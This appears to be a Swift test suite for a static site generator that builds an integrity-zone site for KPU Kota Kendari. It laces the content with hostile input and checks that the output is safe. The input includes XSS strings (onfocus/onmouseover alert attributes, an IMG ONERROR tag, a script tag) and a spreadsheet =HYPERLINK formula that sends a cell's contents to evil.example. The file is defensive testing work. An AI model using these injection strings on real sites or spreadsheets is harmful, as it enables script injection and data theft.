import Foundation
import XCTest
@testable import ZISite
#if canImport(FoundationXML)
    import FoundationXML
#endif

/// A copy of the example in which every text a unit types carries an
/// attacker's text: each character that markup or CSV treats specially,
/// followed by a combining mark, a joiner or a variation selector (which
/// makes it one Swift `Character` that is not that character), then words
/// that would become an event attribute if the quote closed an attribute.
/// The site built from it has no element or attribute that runs script,
/// a well-formed feed and sitemap, CSV rows as wide as their headers, no
/// CSV cell a spreadsheet would run, and the text itself on its pages.
final class HostileContentTests: XCTestCase {
    static let payload: String = {
        let specials: [Unicode.Scalar] = ["\"", "'", "<", ">", "&", ",", ";"]
        let joiners: [Unicode.Scalar] = ["\u{338}", "\u{200D}", "\u{FE0F}"]
        return specials.flatMap { special in
            joiners.map { String(special) + String($0) + " autofocus onfocus=alert(1) x=" + String(special) + String($0) }
        }.joined(separator: " ")
    }()

    static let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A3,\"Klik\")"

    private var site: BuiltSite!

    /// One build, looked at from every side.
    func testAHostileSiteIsSafeAndKeepsItsText() throws {
        let scratch = try ScratchFolder()
        let content = try scratch.copy(Repository.content, as: "Content")
        try HostileContent.lace(content, with: Self.payload, formula: Self.formula)
        site = BuiltSite(content: content, output: scratch.path("Output"))
        XCTAssertTrue(site.result.succeeded, site.errors.map(\.formatted).joined(separator: "\n"))
        try noPageHasAnElementOrAttributeThatRunsScript()
        try theTextReachesThePagesAsWritten()
        try theFeedAndTheSitemapAreWellFormedAndKeepTheText()
        try everyCSVRowIsAsWideAsItsHeaderAndNoCellRunsAsAFormula()
        try everyJSONFileParsesAndKeepsTheTextAsWritten()
    }

    private func noPageHasAnElementOrAttributeThatRunsScript() throws {
        var pages = 0
        for (path, data) in try site.files() where [".html", ".svg"].contains(where: path.hasSuffix) {
            pages += 1
            for tag in MarkupTags.scan(String(decoding: data, as: UTF8.self)) {
                XCTAssertFalse(["script", "iframe", "object", "embed", "foreignobject"].contains(tag.name), "\(path): <\(tag.name)>")
                for (name, value) in tag.attributes {
                    XCTAssertFalse(name.hasPrefix("on") || name == "autofocus", "\(path): <\(tag.name) \(name)>")
                    if ["href", "src", "action", "formaction"].contains(name) {
                        XCTAssertFalse(value.trimmingCharacters(in: .whitespaces).lowercased().hasPrefix("javascript:"), "\(path): \(name)=\(value)")
                    }
                }
            }
        }
        XCTAssertGreaterThan(pages, 25)
    }

    private func theTextReachesThePagesAsWritten() throws {
        let visible = VisibleText.of(try site.html("index.html"))
        XCTAssertTrue(visible.contains(VisibleText.fold("KPU Kota Kendari" + Self.payload)), "the unit's name")
        let annex = VisibleText.of(try site.html("lampiran.html"))
        XCTAssertTrue(annex.contains(VisibleText.fold("Tim Kerja" + Self.payload)), "a component")
        XCTAssertTrue(annex.contains(VisibleText.fold(Self.formula + Self.payload)), "a step that reads like a formula")
        for (path, data) in try site.files() where path.hasSuffix(".html") && (path.hasPrefix("layanan/") || path.hasPrefix("monev/")) {
            XCTAssertTrue(VisibleText.of(String(decoding: data, as: UTF8.self)).contains(VisibleText.fold(Self.payload)), path)
        }
    }

    private func theFeedAndTheSitemapAreWellFormedAndKeepTheText() throws {
        let feed = try XMLText(site.output.appendingPathComponent("feed.xml"))
        XCTAssertEqual(feed.texts(of: "title").first, "Zona Integritas KPU Kota Kendari" + Self.payload)
        let sitemap = try XMLText(site.output.appendingPathComponent("sitemap.xml"))
        XCTAssertGreaterThan(sitemap.texts(of: "loc").count, 25)
    }

    private func everyCSVRowIsAsWideAsItsHeaderAndNoCellRunsAsAFormula() throws {
        var tables = 0
        for (path, data) in try site.files() where path.hasPrefix("data/") && path.hasSuffix(".csv") {
            tables += 1
            let rows = CSVRows.parse(String(decoding: data, as: UTF8.self))
            let width = try XCTUnwrap(rows.first?.count, path)
            for (index, row) in rows.enumerated() {
                XCTAssertEqual(row.count, width, "\(path) row \(index + 1)")
                for cell in row {
                    guard let first = cell.unicodeScalars.first, first.isASCII, SpreadsheetFormula.starters.contains(UInt8(first.value)) else { continue }
                    XCTAssertTrue(SpreadsheetFormula.isNumber(cell) || cell == "-", "\(path): a cell a spreadsheet would run: \(cell)")
                }
            }
        }
        XCTAssertGreaterThanOrEqual(tables, 17)
        let plan = CSVRows.parse(try site.html("data/rencana-aksi.csv"))
        XCTAssertTrue(plan.contains { $0.contains("'" + Self.formula + Self.payload) }, "the formula is kept, neutralised")
    }

    private func everyJSONFileParsesAndKeepsTheTextAsWritten() throws {
        for (path, data) in try site.files() where path.hasSuffix(".json") {
            XCTAssertNoThrow(try JSONSerialization.jsonObject(with: data), path)
        }
        let plan = try XCTUnwrap(JSONSerialization.jsonObject(with: try XCTUnwrap(site.files()["data/rencana-aksi.json"])) as? [[String: Any]])
        XCTAssertTrue(plan.contains { $0.values.contains { ($0 as? String) == Self.formula + Self.payload } })
    }
}

/// Writes the attacker's text into a copy of the example content.
enum HostileContent {
    /// A link as the issue found it, a quote joined to a mark and then an
    /// event attribute that runs without a click; with the single quote a
    /// URL may hold (a double quote is refused where the link is read).
    static let link = "https://contoh.id/bukti'\u{338}/autofocus/onfocus=alert(document.domain)//"
    static let evidenceName = "AREA I/catatan.<IMG SRC=X ONERROR=alert(1)>"

    static func lace(_ content: URL, with payload: String, formula: String) throws {
        try settings(content.appendingPathComponent("situs.yml"), payload)
        try table(content.appendingPathComponent("rencana-aksi.tsv"), separator: "\t") { row, header in
            guard header != nil, !row.allSatisfy({ $0.allSatisfy(\.isNumber) }) else { return row }  // the column numbers
            if row.dropFirst().allSatisfy(\.isEmpty) {  // a section's numeral, or its title
                return row[0].contains(" ") ? [row[0] + payload] + row.dropFirst() : row
            }
            return row.enumerated().map { index, cell in
                guard (1...4).contains(index), !cell.isEmpty else { return cell }
                return cell == "Rapat evaluasi pembangunan ZI tiap triwulan" ? formula + payload : cell + payload
            }
        }
        let folder = FileManager.default
        for name in try folder.contentsOfDirectory(atPath: content.appendingPathComponent("monev").path) {
            try table(content.appendingPathComponent("monev/\(name)"), separator: ";", laced: ["REALISASI", "CATATAN"], payload,
                      evidence: { $0 + "\n" + link + "\n" + evidenceName })
        }
        // A real PDF under a name whose extension is markup: shown as the file's type beside its link.
        try folder.copyItem(at: content.appendingPathComponent("bukti/AREA I/SK Tim Kerja ZI.pdf"),
                            to: content.appendingPathComponent("bukti/" + evidenceName))
        for name in try folder.contentsOfDirectory(atPath: content.appendingPathComponent("layanan").path) {
            try table(content.appendingPathComponent("layanan/\(name)"), separator: ";",
                      laced: ["PERTANYAAN", "KELOMPOK", "URAIAN SINGKAT", "SALURAN", "JENIS", "TINDAK LANJUT", "PEKERJAAN", "PENDIDIKAN"], payload, evidence: nil)
        }
        for page in ["keputusan.md", "halaman/01-tentang-zona-integritas.md"] {
            let url = content.appendingPathComponent(page)
            let text = try String(contentsOf: url, encoding: .utf8)
            try (text + "\n\(payload)\n\n[klik](https://contoh.id/\"\u{338}onmouseover=alert(1)) <script>alert(1)</script>\n")
                .write(to: url, atomically: true, encoding: .utf8)
        }
    }

    private static func settings(_ url: URL, _ payload: String) throws {
        let keys = ["nama", "provinsi", "tentang", "ditetapkan_di", "penandatangan", "jabatan", "judul_lampiran", "pengaduan", "catatan_kemajuan"]
        var lines: [String] = []
        for line in try String(contentsOf: url, encoding: .utf8).components(separatedBy: "\n") {
            let indent = line.prefix { $0 == " " }
            let parts = line.dropFirst(indent.count).split(separator: ":", maxSplits: 1)
            guard parts.count == 2, keys.contains(String(parts[0])) else {
                lines.append(line)
                continue
            }
            if parts[0] == "pengaduan" { lines.append("  website: " + JSONString.quoted(link)) }
            lines.append("\(indent)\(parts[0]): " + JSONString.quoted(parts[1].trimmingCharacters(in: .whitespaces) + payload))
        }
        try lines.joined(separator: "\n").write(to: url, atomically: true, encoding: .utf8)
    }

    /// Appends the text to the named columns, and a hostile link to BUKTI.
    private static func table(_ url: URL, separator: Unicode.Scalar, laced columns: Set<String>, _ payload: String,
                              evidence: ((String) -> String)?) throws {
        try table(url, separator: separator) { row, header in
            guard let header else {
                return ["SUMBER", "CATATAN"].contains(row.first ?? "") ? row.enumerated().map { $0 == 1 ? $1 + payload : $1 } : row
            }
            return zip(header, row).map { column, cell in
                if column == "BUKTI", let evidence { return evidence(cell) }
                return columns.contains(column) && !cell.isEmpty ? cell + payload : cell
            } + row.dropFirst(header.count)
        }
    }

    /// Rewrites a sheet row by row; `header` is nil above the header row.
    private static func table(_ url: URL, separator: Unicode.Scalar, _ change: ([String], [String]?) -> [String]) throws {
        var diagnostics = DiagnosticList()
        let text = try String(contentsOf: url, encoding: .utf8)
        let rows = DelimitedTextReader.read(text, separator: Character(separator), file: url.path, diagnostics: &diagnostics)
        var header: [String]?
        var written: [[String]] = []
        for row in rows {
            let cells = row.cells.map(\.text)
            written.append(row.isBlank ? cells : change(cells, header))
            if header == nil, ["NO", "KODE", "LAPORAN"].contains(cells.first?.trimmingCharacters(in: .whitespaces) ?? "") { header = cells }
        }
        try DelimitedTextWriter.text(written, separator: separator).write(to: url, atomically: true, encoding: .utf8)
    }
}

/// The start tags of an HTML or SVG text, read as a browser's tokenizer
/// does, scalar by scalar: each tag's name and its attributes.
enum MarkupTags {
    struct Tag {
        var name: String
        var attributes: [(String, String)]
    }

    static func scan(_ text: String) -> [Tag] {
        let s = Array(text.unicodeScalars)
        var tags: [Tag] = []
        var i = 0
        func isSpace(_ c: Unicode.Scalar) -> Bool { c == " " || c == "\n" || c == "\t" || c == "\r" || c == "\u{C}" }
        func read(while keep: (Unicode.Scalar) -> Bool) -> String {
            var out = String.UnicodeScalarView()
            while i < s.count, keep(s[i]) { out.append(s[i]); i += 1 }
            return String(out)
        }
        while i < s.count {
            guard s[i] == "<", i + 1 < s.count, s[i + 1].properties.isAlphabetic, s[i + 1].isASCII else {
                if s[i] == "<", i + 3 < s.count, s[i + 1] == "!", s[i + 2] == "-", s[i + 3] == "-" {
                    while i + 2 < s.count, !(s[i] == "-" && s[i + 1] == "-" && s[i + 2] == ">") { i += 1 }
                }
                i += 1
                continue
            }
            i += 1
            var tag = Tag(name: read { !isSpace($0) && $0 != "/" && $0 != ">" }.lowercased(), attributes: [])
            while i < s.count, s[i] != ">" {
                if isSpace(s[i]) || s[i] == "/" { i += 1; continue }
                let first = s[i]  // may be "=", as in a browser
                i += 1
                let name = String(first) + read { !isSpace($0) && $0 != "/" && $0 != ">" && $0 != "=" }
                _ = read(while: isSpace)
                var value = ""
                if i < s.count, s[i] == "=" {
                    i += 1
                    _ = read(while: isSpace)
                    if i < s.count, s[i] == "\"" || s[i] == "'" {
                        let quote = s[i]
                        i += 1
                        value = read { $0 != quote }
                        i += 1
                    } else {
                        value = read { !isSpace($0) && $0 != ">" }
                    }
                }
                tag.attributes.append((name.lowercased(), value))
            }
            tags.append(tag)
            if tag.name == "style" || tag.name == "script" {  // raw text up to the end tag
                while i + 1 < s.count, !(s[i] == "<" && s[i + 1] == "/") { i += 1 }
            }
        }
        return tags
    }
}

/// RFC 4180 rows, read scalar by scalar.
enum CSVRows {
    static func parse(_ text: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = String.UnicodeScalarView()
        var quoted = false, previousWasQuote = false
        for scalar in text.unicodeScalars {
            if quoted {
                if scalar == "\"" { quoted = false; previousWasQuote = true } else { cell.append(scalar) }
                continue
            }
            switch scalar {
            case "\"":
                if previousWasQuote { cell.append("\"") }
                quoted = true
            case ",": row.append(String(cell)); cell = .init()
            case "\r": break
            case "\n": row.append(String(cell)); rows.append(row); row = []; cell = .init()
            default: cell.append(scalar)
            }
            previousWasQuote = false
        }
        if !row.isEmpty || !cell.isEmpty { row.append(String(cell)); rows.append(row) }
        return rows
    }
}

/// An XML file parsed by Foundation's parser (which fails on a file that is
/// not well-formed), with the text of its elements by name.
struct XMLText {
    private var texts: [String: [String]] = [:]

    init(_ url: URL) throws {
        let parser = XMLParser(contentsOf: url)!
        let collector = Collector()
        parser.delegate = collector
        guard parser.parse() else { throw NSError(domain: "XML", code: 1, userInfo: [NSLocalizedDescriptionKey: "\(url.lastPathComponent) is not well-formed: \(String(describing: parser.parserError))"]) }
        texts = collector.texts
    }

    func texts(of element: String) -> [String] { texts[element] ?? [] }

    private final class Collector: NSObject, XMLParserDelegate {
        var texts: [String: [String]] = [:]
        private var open: [String] = []
        private var text = ""

        func parser(_ parser: XMLParser, didStartElement name: String, namespaceURI: String?, qualifiedName: String?, attributes: [String: String] = [:]) {
            open.append(name)
            text = ""
        }

        func parser(_ parser: XMLParser, foundCharacters string: String) { text += string }

        func parser(_ parser: XMLParser, didEndElement name: String, namespaceURI: String?, qualifiedName: String?) {
            texts[name, default: []].append(text)
            open.removeLast()
            text = ""
        }
    }
}
